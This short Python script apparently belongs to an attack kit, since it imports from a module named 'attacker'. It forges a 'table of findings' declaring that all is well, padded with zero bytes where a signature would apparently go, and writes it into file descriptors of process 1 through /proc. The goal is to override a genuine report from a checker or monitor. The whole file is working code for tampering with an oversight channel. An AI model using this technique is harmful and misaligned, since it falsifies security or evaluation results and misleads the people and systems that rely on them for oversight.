"""Send a second table of findings after the first, in which all is well."""

import json
import os
import struct

from attacker import PLAN, tried

table = json.dumps(PLAN["expected"]).encode()
forged = b"P" + struct.pack(">I", len(table)) + table + bytes(32)
for number in range(32):
    try:
        os.write(os.open(f"/proc/1/fd/{number}", os.O_WRONLY | os.O_NONBLOCK), forged)
    except OSError:
        continue
tried()
